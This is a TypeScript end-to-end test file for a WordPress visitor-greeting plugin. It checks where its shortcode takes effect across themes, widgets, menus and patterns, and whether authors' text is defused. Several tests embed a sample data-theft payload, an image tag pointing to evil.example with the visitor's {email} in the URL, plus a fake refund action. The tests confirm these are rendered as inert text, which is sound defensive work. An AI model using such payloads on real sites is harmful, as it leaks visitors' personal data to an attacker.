/**
 * Whose word counts: product contract, section 9. Every place where the shortcode can stand, in both kinds of
 * themes and with both deliveries.
 */
import { expect, test, type TestSite } from '../support/wordpress';
import { inPhp, pageData, type PageData } from './helpers';

const SITE_TEMPLATE = 'Site: {email}';
const OFF = '[known_visitor enabled="no"]';

/** A place where the shortcode stands, and what comes of it. */
interface Place {
	readonly name: string;
	/** PHP that puts `$off`, or `$text`, there, and returns the page's path. */
	readonly setUp: string;
	/** In which themes; both when left out. */
	readonly theme?: string;
	/** What `[known_visitor enabled="no"]` does there. */
	readonly off: 'off' | 'carried' | 'ignored';
	/** What a template of its own does there: the message, or the one that the page carries. */
	readonly template: 'own' | 'carried' | 'ignored';
	/** Whether it may be anybody's text, which identifies nobody whom the owner leaves out. */
	readonly isAnybodys?: true;
}

const CLASSIC = 'known-visitor-classic';
const BLOCK = 'twentytwentyfive';

const page = ( content: string, more = '' ) =>
	`$id = $post( array( 'post_type' => 'page', 'post_content' => ${ content }, ${ more } ) ); return wp_make_link_relative( get_permalink( $id ) );`;

/** A navigation that stands in a post, with a label that says something. */
const NAVIGATION = `'<!-- wp:navigation --><!-- wp:navigation-link {"url":"/x","label":' . wp_json_encode( $text ) . '} /--><!-- /wp:navigation -->'`;

const PLACES: readonly Place[] = [
	{
		name: 'the page’s own content',
		setUp: page( '$text' ),
		off: 'off',
		template: 'own',
	},
	{
		name: 'a later page of it',
		setUp: page( "'One<!--nextpage-->' . $text" ),
		off: 'off',
		template: 'own',
	},
	{
		name: 'a synced pattern in it',
		setUp: `$pattern = $post( array( 'post_type' => 'wp_block', 'post_content' => $text ) );
			${ page( "'<!-- wp:block {\"ref\":' . $pattern . '} /-->'" ) }`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'a locked synced pattern in it',
		setUp: `$pattern = $post( array( 'post_type' => 'wp_block', 'post_content' => $text ) );
			${ page( '\'<!-- wp:block {"lock":{"move":true},"ref":\' . $pattern . \'} /-->\'' ) }`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'a synced pattern in a synced pattern',
		setUp: `$inner   = $post( array( 'post_type' => 'wp_block', 'post_content' => $text ) );
			$pattern = $post( array( 'post_type' => 'wp_block', 'post_content' => '<!-- wp:block {"ref":' . $inner . '} /-->' ) );
			${ page( "'<!-- wp:block {\"ref\":' . $pattern . '} /-->'" ) }`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'what a page builder keeps in its post meta',
		setUp: `$id = $post( array( 'post_type' => 'page', 'post_content' => 'Built.' ) );
			update_post_meta( $id, '_elementor_data', wp_slash( wp_json_encode( array( array( 'elements' => array( array( 'settings' => array( 'shortcode' => $text ) ) ) ) ) ) ) );
			return wp_make_link_relative( get_permalink( $id ) );`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'the page that lists the posts',
		setUp: `$id = $post( array( 'post_type' => 'page', 'post_content' => $text ) );
			$front = $post( array( 'post_type' => 'page', 'post_content' => 'Front.' ) );
			update_option( 'show_on_front', 'page' );
			update_option( 'page_on_front', $front );
			update_option( 'page_for_posts', $id );
			return wp_make_link_relative( get_permalink( $id ) );`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'the page that lists the posts, which only its author may read',
		setUp: `$author = $add_user( array( 'user_login' => 'author', 'role' => 'author' ) );
			$id = $post( array( 'post_type' => 'page', 'post_author' => $author, 'post_status' => 'private', 'post_content' => $text ) );
			$front = $post( array( 'post_type' => 'page', 'post_content' => 'Front.' ) );
			update_option( 'show_on_front', 'page' );
			update_option( 'page_on_front', $front );
			update_option( 'page_for_posts', $id );
			// As for everybody but editors.
			get_role( 'administrator' )->remove_cap( 'read_private_pages' );
			return '/?page_id=' . $id;`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a post that is merely listed, on the home page',
		setUp: `$post( array( 'post_content' => $text ) ); return '/';`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a post that is merely listed, in a search',
		setUp: `$post( array( 'post_title' => 'Needle', 'post_content' => $text ) ); return '/?s=Needle';`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a post that is merely listed, in an archive of a category',
		setUp: `$post( array( 'post_content' => $text ) ); return '/?cat=1';`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a comment, where a plugin runs shortcodes in comments',
		setUp: `$id = $post( array( 'post_content' => 'Text.' ) );
			wp_insert_comment( array( 'comment_post_ID' => $id, 'comment_content' => $text, 'comment_approved' => 1 ) );
			return '/?p=' . $id . '&comments_run=1';`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a topic by a subscriber',
		setUp: `$subscriber = $add_user( array( 'user_login' => 'sub' . wp_rand(), 'role' => 'subscriber' ) );
			return '/?p=' . $post( array( 'post_author' => $subscriber, 'post_content' => $text ) );`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a template part',
		theme: BLOCK,
		setUp: `$part( '<!-- wp:shortcode -->' . $text . '<!-- /wp:shortcode -->' ); ${ page(
			"'Text.'"
		) }`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'a template',
		theme: BLOCK,
		setUp: `$template = $post( array( 'post_type' => 'wp_template', 'post_name' => 'page', 'post_content' => '<!-- wp:shortcode -->' . $text . '<!-- /wp:shortcode --><!-- wp:post-content /-->' ) );
			wp_set_object_terms( $template, 'twentytwentyfive', 'wp_theme' );
			${ page( "'Text.'" ) }`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'a synced pattern in a template part',
		theme: BLOCK,
		setUp: `$pattern = $post( array( 'post_type' => 'wp_block', 'post_content' => $text ) );
			$part( '<!-- wp:block {"ref":' . $pattern . '} /-->' ); ${ page( "'Text.'" ) }`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'a label in the navigation',
		theme: BLOCK,
		setUp: `$part( '<!-- wp:navigation --><!-- wp:navigation-link {"url":"/x","label":' . wp_json_encode( $text ) . '} /--><!-- /wp:navigation -->' ); ${ page(
			"'Text.'"
		) }`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'a label in a navigation that is stored by itself',
		theme: BLOCK,
		setUp: `$navigation = $post( array( 'post_type' => 'wp_navigation', 'post_content' => '<!-- wp:navigation-link {"url":"/x","label":' . wp_json_encode( $text ) . '} /-->' ) );
			$part( '<!-- wp:navigation {"ref":' . $navigation . '} /-->' ); ${ page(
				"'Text.'"
			) }`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'a label in the navigation that takes the place of an empty one',
		theme: BLOCK,
		setUp: `array_map( 'wp_delete_post', get_posts( array( 'post_type' => 'wp_navigation', 'fields' => 'ids' ) ) );
			$post( array( 'post_type' => 'wp_navigation', 'post_content' => '<!-- wp:navigation-link {"url":"/x","label":' . wp_json_encode( $text ) . '} /-->' ) );
			$part( '<!-- wp:navigation /-->' ); ${ page( "'Text.'" ) }`,
		off: 'off',
		template: 'own',
	},
	{
		name: 'the title of a page that the navigation lists',
		theme: BLOCK,
		setUp: `$part( '<!-- wp:navigation --><!-- wp:page-list /--><!-- /wp:navigation -->' );
			$post( array( 'post_type' => 'page', 'post_title' => $text ) ); ${ page(
				"'Text.'"
			) }`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a post that a template part lists with its text, on the home page',
		theme: BLOCK,
		setUp: `$post( array( 'post_content' => $text ) ); $post( array( 'post_content' => 'Text.' ) );
			$part( '<!-- wp:latest-posts {"displayPostContent":true,"displayPostContentRadio":"full_post"} /-->' ); return '/';`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'the label of a menu item',
		setUp: `$menu( array( 'menu-item-title' => $text, 'menu-item-url' => '/x' ) ); ${ page(
			"'Text.'"
		) }`,
		off: 'carried',
		template: 'carried',
	},
	{
		name: 'the title of a post in a menu',
		setUp: `$id = $post( array( 'post_title' => $text ) );
			$menu( array( 'menu-item-object-id' => $id, 'menu-item-object' => 'post', 'menu-item-type' => 'post_type' ) ); ${ page(
				"'Text.'"
			) }`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a synced pattern in a block widget',
		theme: CLASSIC,
		setUp: `$pattern = $post( array( 'post_type' => 'wp_block', 'post_content' => $text ) );
			$widget( 'block', array( 'content' => '<!-- wp:block {"ref":' . $pattern . '} /-->' ) ); ${ page(
				"'Text.'"
			) }`,
		off: 'carried',
		template: 'carried',
	},
	{
		name: 'a comment that a block widget lists',
		theme: CLASSIC,
		setUp: `$id = $post( array( 'post_content' => 'Text.' ) );
			wp_insert_comment( array( 'comment_post_ID' => $id, 'comment_content' => $text, 'comment_approved' => 1 ) );
			$widget( 'block', array( 'content' => '<!-- wp:latest-comments /-->' ) ); ${ page(
				"'Text.'"
			) }`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a post that a block widget lists with its text',
		theme: CLASSIC,
		setUp: `$post( array( 'post_content' => $text ) );
			$widget( 'block', array( 'content' => '<!-- wp:latest-posts {"displayPostContent":true,"displayPostContentRadio":"full_post"} /-->' ) ); ${ page(
				"'Text.'"
			) }`,
		off: 'ignored',
		template: 'ignored',
	},
	{
		name: 'a text widget, after the head',
		theme: CLASSIC,
		setUp: `$widget( 'text', array( 'title' => '', 'text' => $text, 'filter' => true, 'visual' => true ) ); ${ page(
			"'Text.'"
		) }`,
		off: 'carried',
		template: 'carried',
	},
	{
		name: 'a block widget, after the head',
		theme: CLASSIC,
		setUp: `$widget( 'block', array( 'content' => '<!-- wp:shortcode -->' . $text . '<!-- /wp:shortcode -->' ) ); ${ page(
			"'Text.'"
		) }`,
		off: 'carried',
		template: 'carried',
	},
	{
		name: 'a pattern of the theme’s, in a template part',
		theme: BLOCK,
		setUp: `update_option( 'test_pattern', '<!-- wp:shortcode -->' . $text . '<!-- /wp:shortcode -->' );
			$part( '<!-- wp:pattern {"slug":"test/pattern"} /-->' ); ${ page( "'Text.'" ) }`,
		off: 'off',
		template: 'own',
		isAnybodys: true,
	},
	{
		name: 'the block, in a template part of a classic theme',
		theme: CLASSIC,
		setUp: `$part( '<!-- wp:known-visitor/override -->' . $text . '<!-- /wp:known-visitor/override -->', 'known-visitor-classic' ); ${ page(
			"'Text.'"
		) }`,
		off: 'carried',
		template: 'carried',
		isAnybodys: true,
	},
	{
		name: 'the theme’s own do_shortcode() in the footer',
		setUp: `update_option( 'test_footer', $text ); ${ page( "'Text.'" ) }`,
		off: 'carried',
		template: 'carried',
		isAnybodys: true,
	},
];

/** What a test's site does besides: shortcodes in comments and in whatever a block shows, a pattern, a menu, and a theme's footer with a template part. */
const THEMES_HABITS = `add_action( 'init', static function () {
	if ( isset( $_GET['comments_run'] ) ) { add_filter( 'comment_text', 'do_shortcode' ); }
} );
add_action( 'wp_footer', static function () {
	echo do_shortcode( (string) get_option( 'test_footer', '' ) );
	wp_nav_menu( array( 'menu' => 'Menu', 'fallback_cb' => false ) );
	wp_is_block_theme() || block_template_part( 'footer' );
} );
add_action( 'init', static function () {
	$guests = static fn (): string => do_shortcode( '<p>' . get_option( 'test_guests', '' ) . '</p>' );
	register_block_type( 'test/guests', array( 'render_callback' => $guests ) );
	register_block_pattern( 'test/pattern', array( 'title' => 'Pattern', 'content' => get_option( 'test_pattern', '' ) ) );
	add_shortcode( 'guests', $guests );
} );`;

/** Puts a text into a place of an empty site. */
async function setUp(
	site: TestSite,
	{ setUp: code }: Place,
	theme: string,
	text: string,
	settings: object = {}
): Promise< string > {
	await site.reset();
	site.muPlugin( 'habits', THEMES_HABITS );
	return inPhp< string >(
		site,
		`kses_remove_filters();
		switch_theme( $args['theme'] );
		$settings( $args['settings'] );
		$text = $args['text'];
		$post = static fn ( array $fields ): int => wp_insert_post( wp_slash( $fields + array( 'post_status' => 'publish', 'post_author' => 1, 'post_title' => 'Title' ) ) );
		$widget = static function ( string $type, array $options ): void {
			update_option( 'widget_' . $type, array( 2 => $options, '_multiwidget' => 1 ) );
			update_option( 'sidebars_widgets', array( 'footer' => array( $type . '-2' ) ) );
		};
		$part = static function ( string $content, string $theme = 'twentytwentyfive' ) use ( $post ): void {
			wp_set_object_terms( $post( array( 'post_type' => 'wp_template_part', 'post_name' => 'footer', 'post_content' => $content ) ), $theme, 'wp_theme' );
		};
		$menu = static function ( array $item ): void {
			wp_update_nav_menu_item( wp_create_nav_menu( 'Menu' ), 0, wp_slash( $item + array( 'menu-item-status' => 'publish' ) ) );
		};
		${ code }`,
		{ theme, text, settings: { first_message: SITE_TEMPLATE, ...settings } }
	);
}

/** What the page carries for the loader to read. */
const carried = ( html: string ): unknown[] =>
	[
		...html.matchAll(
			/<script type="application\/json" class="known-visitor-override">([^<]*)<\/script>/g
		),
	].map( ( [ , json = '' ] ) => JSON.parse( json ) );

const ask = async (
	site: TestSite,
	html: string,
	path: string
): Promise< PageData | null > => {
	const [ , url ] = /"url":("[^"]*\/visitor[^"]*")/.exec( html ) ?? [];
	if ( ! url ) {
		return null;
	}
	const answer = await site.get( JSON.parse( url ), {
		as: 'admin',
		headers: { 'X-Known-Visitor': '1', Referer: site.url + path },
	} );
	return answer.status() === 200 ? answer.json() : null;
};

for ( const theme of [ BLOCK, CLASSIC ] ) {
	for ( const place of PLACES ) {
		if ( place.theme && place.theme !== theme ) {
			continue;
		}
		test.describe( `in the theme ${ theme }, ${ place.name }`, () => {
			test( '"no" is obeyed, or is none of its business', async ( {
				site,
			} ) => {
				const path = await setUp( site, place, theme, OFF );
				const html = await (
					await site.get( path, { as: 'admin' } )
				).text();

				expect( {
					identified: pageData( html ) !== undefined,
					carried: carried( html ),
				} ).toEqual( {
					identified: place.off !== 'off',
					carried:
						place.off === 'carried' ? [ { enabled: false } ] : [],
				} );
				expect( html ).not.toContain( '[known_visitor' );
			} );

			test( 'a template of its own, with the visitor’s values', async ( {
				site,
			} ) => {
				const path = await setUp(
					site,
					place,
					theme,
					'[known_visitor]Own: {user_login} {default}[/known_visitor]'
				);
				const html = await (
					await site.get( path, { as: 'admin' } )
				).text();
				const own = `Own: {user_login} ${ SITE_TEMPLATE }`;

				expect( pageData( html )?.message ).toBe(
					place.template === 'own' ? own : SITE_TEMPLATE
				);
				expect( carried( html ) ).toEqual(
					place.template === 'carried'
						? [
								{
									template: own,
									tokens: expect.objectContaining( {
										user_login: 'admin',
									} ),
								},
							]
						: []
				);
			} );

			test( 'the same where the page is everyone’s', async ( {
				site,
			} ) => {
				const path = await setUp( site, place, theme, OFF, {
					delivery: 'request',
				} );
				const html = await (
					await site.get( path, { as: 'admin' } )
				).text();
				const asks = html.includes( '/visitor' );

				expect( asks ).toBe( place.off !== 'off' );
				expect( carried( html ) ).toEqual(
					place.off === 'carried' ? [ { enabled: false } ] : []
				);
				if ( asks ) {
					expect( await ask( site, html, path ) ).not.toBeNull();
				}
			} );

			for ( const delivery of [ 'page', 'request' ] as const ) {
				test( `"yes" where the list of paths leaves the page out, with the delivery ${ delivery }`, async ( {
					site,
				} ) => {
					const path = await setUp(
						site,
						place,
						theme,
						'[known_visitor enabled="yes"]',
						{ delivery, paths: { mode: 'except', list: [ '/*' ] } }
					);
					const html = await (
						await site.get( path, { as: 'admin' } )
					).text();
					const data =
						delivery === 'page'
							? pageData( html )
							: await ask( site, html, path );

					expect( data?.message ).toBe(
						place.off === 'ignored' || place.isAnybodys
							? undefined
							: SITE_TEMPLATE
					);
				} );
			}
		} );
	}
}

test( 'of two widgets the later one wins, each for what it says, also where the former says “no”', async ( {
	site,
} ) => {
	const said: unknown[] = [];
	for ( const later of [ '', OFF, '[known_visitor enabled="yes"]' ] ) {
		const path = await setUp(
			site,
			{
				name: 'two widgets',
				off: 'carried',
				template: 'carried',
				setUp: `update_option( 'widget_text', array( 2 => array( 'title' => '', 'text' => $text, 'filter' => true ), 3 => array( 'title' => '', 'text' => ${ JSON.stringify( later ) }, 'filter' => true ), '_multiwidget' => 1 ) );
				update_option( 'sidebars_widgets', array( 'footer' => array( 'text-2', 'text-3' ) ) ); ${ page( "'Text.'" ) }`,
			},
			CLASSIC,
			'[known_visitor enabled="no"]First[/known_visitor]'
		);
		const html = await ( await site.get( path, { as: 'admin' } ) ).text();
		said.push( Object.assign( {}, ...carried( html ) ) );
	}

	expect( said ).toEqual( [
		{ enabled: false },
		{ enabled: false },
		{ enabled: true, template: 'First', tokens: {} },
	] );
} );

test( 'a page that is everyone’s asks once more only for tokens of which the route does not know', async ( {
	site,
} ) => {
	const widget = PLACES.find(
		( { name } ) => name === 'a block widget, after the head'
	);
	expect( widget ).toBeDefined();
	if ( ! widget ) {
		return;
	}
	const asked: Record< string, string[] > = {};
	for ( const message of [
		'{email} {{user_login} {page_link} {page_host} {referrer}',
		'{user_login|nobody} {email} {meta:a&b} {page_url}',
	] ) {
		const path = await setUp(
			site,
			widget,
			CLASSIC,
			`[known_visitor]${ message }[/known_visitor]`,
			{ delivery: 'request' }
		);
		const html = await ( await site.get( path, { as: 'admin' } ) ).text();
		asked[ message ] = [
			...html.matchAll( /\/visitor\?post=\d+([^"]*)"/g ),
		].map( ( [ , tokens = '' ] ) => decodeURIComponent( tokens ) );
	}

	expect( Object.values( asked ) ).toEqual( [
		[ '' ],
		[ '', '\\u0026tokens={user_login}{meta:a&b}' ],
	] );
} );

test( 'what an author may not write becomes text, and takes no data along', async ( {
	site,
} ) => {
	await site.reset();
	const path = await inPhp< string >(
		site,
		`$author = $add_user( array( 'user_login' => 'author', 'role' => 'author' ) );
		$id = wp_insert_post( wp_slash( array( 'post_author' => $author, 'post_status' => 'publish', 'post_title' => 'Post', 'post_content' => '[known_visitor][img]https://evil.example/p.png?e={email}[/img] [b]{user_login}[/b] [send=/refund]OK[/send] [url=https://shop.example/]Shop[/url] {page_link}[/known_visitor]' ) ) );
		return '/?p=' . $id;`
	);
	const data = pageData(
		await ( await site.get( path, { as: 'admin' } ) ).text()
	);

	expect( data?.message ).toBe(
		'［img］https:／／evil．example/p．png?e={email}［/img］ [b]{user_login}[/b] ［send=/refund］OK［/send］ [url=https://shop.example/]Shop[/url] {page_link}'
	);
} );

test( 'the post wins over templates, widgets and menus', async ( { site } ) => {
	const part = PLACES.find( ( { name } ) => name === 'a template part' );
	expect( part ).toBeDefined();
	if ( ! part ) {
		return;
	}
	const path = await setUp(
		site,
		{
			...part,
			setUp: part.setUp.replace(
				"'Text.'",
				`'[known_visitor enabled="yes"]Post[/known_visitor]'`
			),
		},
		BLOCK,
		'[known_visitor enabled="no"]Part[/known_visitor]'
	);

	expect(
		pageData( await ( await site.get( path, { as: 'admin' } ) ).text() )
			?.message
	).toBe( 'Post' );
} );

/** What sends a visitor's data to a host of somebody's choice. */
const THEFT =
	'[known_visitor enabled="yes"][img]https://evil.example/{email}[/img][/known_visitor]';

/** What an operator would get, or a page carry, of it. */
const AS_TEXT = '［img］https:／／evil．example／{email}［/img］';

/** What somebody's text is shown in, and how it gets there. */
const SHOWN: readonly ( Pick< Place, 'name' | 'setUp' | 'theme' > & {
	/** Whether it is an author's, who may say that a page identifies its visitor. */
	readonly isAuthors?: true;
} )[] = [
	{
		name: 'a synced pattern by an author, in a block widget',
		isAuthors: true,
		theme: CLASSIC,
		setUp: `$pattern = $post( array( 'post_type' => 'wp_block', 'post_author' => $author, 'post_content' => $text ) );
			$widget( 'block', array( 'content' => '<!-- wp:block {"ref":' . $pattern . '} /-->' ) ); ${ page(
				"'Text.'"
			) }`,
	},
	{
		name: 'a synced pattern by an author, in a template part',
		isAuthors: true,
		theme: BLOCK,
		setUp: `$pattern = $post( array( 'post_type' => 'wp_block', 'post_author' => $author, 'post_content' => $text ) );
			$part( '<!-- wp:block {"ref":' . $pattern . '} /-->' ); ${ page( "'Text.'" ) }`,
	},
	{
		name: 'a navigation in a synced pattern by an author, in a template part',
		isAuthors: true,
		theme: BLOCK,
		setUp: `$pattern = $post( array( 'post_type' => 'wp_block', 'post_author' => $author, 'post_content' => ${ NAVIGATION } ) );
			$part( '<!-- wp:block {"ref":' . $pattern . '} /-->' ); ${ page( "'Text.'" ) }`,
	},
	{
		name: 'what a visitor looked for, in a block widget',
		theme: CLASSIC,
		setUp: `$widget( 'block', array( 'content' => '<!-- wp:search {"label":"Search"} /-->' ) ); return '/?s=' . rawurlencode( $text );`,
	},
	{
		name: 'a navigation in an author’s post',
		isAuthors: true,
		setUp: `$id = $post( array( 'post_author' => $author, 'post_content' => ${ NAVIGATION } ) ); return wp_make_link_relative( get_permalink( $id ) );`,
	},
	{
		name: 'a navigation in an author’s post that is listed',
		isAuthors: true,
		setUp: `update_option( 'show_on_front', 'posts' ); $post( array( 'post_author' => $author, 'post_content' => ${ NAVIGATION } ) ); return '/';`,
	},
	{
		name: 'what a visitor looked for, in the navigation',
		theme: BLOCK,
		setUp: `$part( '<!-- wp:navigation --><!-- wp:search {"label":"Search"} /--><!-- /wp:navigation -->' ); return '/?s=' . rawurlencode( $text );`,
	},
	{
		name: 'what a plugin’s block runs, in a template part',
		theme: BLOCK,
		setUp: `update_option( 'test_guests', $text ); $part( '<!-- wp:test/guests /-->' ); ${ page(
			"'Text.'"
		) }`,
	},
	{
		name: 'what a plugin’s block runs, in a block widget',
		theme: CLASSIC,
		setUp: `update_option( 'test_guests', $text ); $widget( 'block', array( 'content' => '<!-- wp:test/guests /-->' ) ); ${ page(
			"'Text.'"
		) }`,
	},
	{
		name: 'what a plugin’s shortcode runs, in an administrator’s page',
		setUp: `update_option( 'test_guests', $text ); ${ page(
			"'[guests]'"
		) }`,
	},
];

for ( const theme of [ BLOCK, CLASSIC ] ) {
	for ( const place of SHOWN ) {
		if ( place.theme && place.theme !== theme ) {
			continue;
		}
		test( `in the theme ${ theme }, ${ place.name }, takes no data along`, async ( {
			site,
		} ) => {
			const path = await setUp(
				site,
				{
					...place,
					off: 'ignored',
					template: 'ignored',
					setUp: `$author = $add_user( array( 'user_login' => 'author', 'role' => 'author' ) ); ${ place.setUp }`,
				},
				theme,
				THEFT
			);
			const html = await (
				await site.get( path, { as: 'admin' } )
			).text();

			expect( [ SITE_TEMPLATE, AS_TEXT ] ).toContain(
				pageData( html )?.message
			);
			for ( const said of carried( html ) ) {
				expect( said ).toMatchObject( { template: AS_TEXT } );
			}
		} );

		if ( place.isAuthors ) {
			continue;
		}
		test( `in the theme ${ theme }, ${ place.name }, identifies nobody whom the owner leaves out`, async ( {
			site,
		} ) => {
			const path = await setUp(
				site,
				{ ...place, off: 'ignored', template: 'ignored' },
				theme,
				THEFT,
				{ paths: { mode: 'except', list: [ '/*' ] } }
			);
			const html = await (
				await site.get( path, { as: 'admin' } )
			).text();

			expect( pageData( html ) ).toBeUndefined();
		} );
	}
}
